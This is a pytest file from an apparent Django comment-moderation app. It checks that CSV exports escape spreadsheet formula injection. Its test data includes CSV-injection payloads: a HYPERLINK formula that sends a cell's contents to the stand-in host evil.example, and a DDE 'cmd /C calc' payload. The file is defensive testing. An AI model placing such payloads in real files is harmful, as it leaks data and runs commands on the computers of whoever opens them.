"""Every CSV the project writes opens in a spreadsheet without running a reader's formula."""

from __future__ import annotations

import csv
import io

import pytest

from broadsheet.moderation.labels import export_labels
from broadsheet.moderation.ml.data import read_rows
from broadsheet.moderation.services import comment_approve
from tests.conftest import make_comment

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "'=already guarded once",
]


@pytest.fixture
def formula_comments(article, moderator):
    parent = make_comment(article, status="pending", text="=parent(1)")
    comment_approve(comment=parent, actor=moderator)
    for text in FORMULAS:
        comment_approve(
            comment=make_comment(article, status="pending", text=text, parent=parent),
            actor=moderator,
        )
    return article


def _cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content, newline="")) for cell in row]


def test_the_desk_download_writes_no_cell_a_spreadsheet_would_run(
    moderator_client, formula_comments
):
    response = moderator_client.get("/desk/activity/labels.csv?task=abuse")

    assert response.status_code == 200
    cells = _cells(response.content.decode())
    assert cells[:2] == ["text", "label"]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")" in cells
    assert "'@SUM(1,2)" in cells and "'-2+3" in cells and "'\t=1+1" in cells
    assert "''=already guarded once" in cells
    assert "'=parent(1)" in cells  # the parent_text column too


def test_the_exported_labels_read_back_as_the_texts_the_readers_wrote(
    formula_comments, tmp_path
):
    path = tmp_path / "desk.csv"
    export_labels(path, "abuse")

    texts = {row["text"] for row in read_rows(path)}

    # Comment text is stored with \n line ends, so the reader's lone \r came back as \n.
    assert {text.replace("\r", "\n") for text in FORMULAS} <= texts
